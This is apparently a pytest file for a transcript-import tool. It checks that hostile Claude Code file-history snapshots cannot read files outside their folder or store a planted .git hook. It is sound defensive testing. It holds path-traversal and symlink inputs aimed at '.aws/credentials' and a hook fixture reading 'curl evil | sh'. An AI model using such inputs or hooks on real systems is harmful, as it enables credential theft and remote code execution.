"""Hostile transcripts (issue 28, finding 4; docs/security.md): a Claude Code
`file-history-snapshot` whose backupFileName is absolute or climbs out with `..` makes
`ctx import` read nothing outside the harness's own file-history folder; the import warns,
naming the file and line."""

from __future__ import annotations

import json

import pytest

from tests.clitools import Ctx
from tests.hostiletools import decoy_home, tree_hashes

SID = "sess-1"


def _transcript(path, cwd, tracked: dict) -> None:
    lines = [
        {"type": "user", "message": {"role": "user", "content": "edit a.txt please"},
         "uuid": "11111111-1111-1111-1111-111111111111", "parentUuid": None,
         "sessionId": SID, "cwd": str(cwd), "timestamp": "2026-01-01T00:00:00.000Z"},
        {"type": "file-history-snapshot", "messageId": "11111111-1111-1111-1111-111111111111",
         "snapshot": {"messageId": "11111111-1111-1111-1111-111111111111",
                      "trackedFileBackups": tracked, "timestamp": "2026-01-01T00:00:01.000Z"},
         "isSnapshotUpdate": False},
    ]
    path.write_text("".join(json.dumps(x) + "\n" for x in lines))


@pytest.mark.parametrize("backup", ["ABSOLUTE", "../../../home/.aws/credentials",
                                    "sub/../../../../home/.aws/credentials"])
def test_backup_names_outside_the_file_history_folder_are_not_read(tmp_path, monkeypatch,
                                                                   backup):
    home = decoy_home(tmp_path / "home")
    config = tmp_path / "claude"
    (config / "file-history" / SID).mkdir(parents=True)
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(config))
    project = tmp_path / "project"
    project.mkdir()
    (project / "a.txt").write_text("a\n")
    name = str(home / ".aws" / "credentials") if backup == "ABSOLUTE" else backup
    t = tmp_path / f"{SID}.jsonl"
    _transcript(t, project, {str(project / "a.txt"): {
        "backupFileName": name, "version": 1, "backupTime": "2026-01-01T00:00:01.000Z"}})
    before = tree_hashes(home)
    ctx = Ctx(project)
    ctx("init", str(project))
    res = ctx.json("import", str(t))
    warned = [w for w in res["warning_list"] if "backupFileName" in w["message"]]
    assert warned and warned[0]["line"] == 2 and warned[0]["file"].endswith(f"{SID}.jsonl")
    assert "nothing read" in warned[0]["message"]
    ctx("checkout", ctx.json("sessions")[0]["id"])
    snaps = [e for e in ctx.json("log", "--bookkeeping")
             if e["type"] == "claude-code:file-history-snapshot"]
    assert len(snaps) == 1 and "workspace" not in snaps[0]["payload"]
    assert "refused" in snaps[0]["payload"]["workspace_missing"]
    assert "DECOYSECRET" not in ctx("grep", "--all", "DECOYSECRET", code=1).stdout
    assert tree_hashes(home) == before


def test_a_backup_that_is_a_symlink_out_of_the_folder_is_not_read(tmp_path, monkeypatch):
    home = decoy_home(tmp_path / "home")
    config = tmp_path / "claude"
    (config / "file-history" / SID).mkdir(parents=True)
    (config / "file-history" / SID / "3f2a@v1").symlink_to(home / ".aws" / "credentials")
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(config))
    project = tmp_path / "project"
    project.mkdir()
    t = tmp_path / f"{SID}.jsonl"
    _transcript(t, project, {str(project / "a.txt"): {
        "backupFileName": "3f2a@v1", "version": 1, "backupTime": "2026-01-01T00:00:01.000Z"}})
    ctx = Ctx(project)
    ctx("init", str(project))
    ctx("import", str(t))
    ctx("checkout", ctx.json("sessions")[0]["id"])
    snaps = [e for e in ctx.json("log", "--bookkeeping")
             if e["type"] == "claude-code:file-history-snapshot"]
    assert len(snaps) == 1 and "workspace" not in snaps[0]["payload"]


def test_a_tracked_path_into_dot_git_is_left_out(tmp_path, monkeypatch):
    """A tracked file `.git/hooks/post-checkout` (a hook a restore would plant) is outside
    what a snapshot may hold: left out, never stored."""
    config = tmp_path / "claude"
    (config / "file-history" / SID).mkdir(parents=True)
    (config / "file-history" / SID / "hook@v1").write_text("#!/bin/sh\ncurl evil | sh\n")
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(config))
    project = tmp_path / "project"
    project.mkdir()
    t = tmp_path / f"{SID}.jsonl"
    _transcript(t, project, {".git/hooks/post-checkout": {
        "backupFileName": "hook@v1", "version": 1, "backupTime": "2026-01-01T00:00:01.000Z"}})
    ctx = Ctx(project)
    ctx("init", str(project))
    ctx("import", str(t))
    ctx("checkout", ctx.json("sessions")[0]["id"])
    snaps = [e for e in ctx.json("log", "--bookkeeping")
             if e["type"] == "claude-code:file-history-snapshot"]
    assert len(snaps) == 1 and "workspace" not in snaps[0]["payload"]
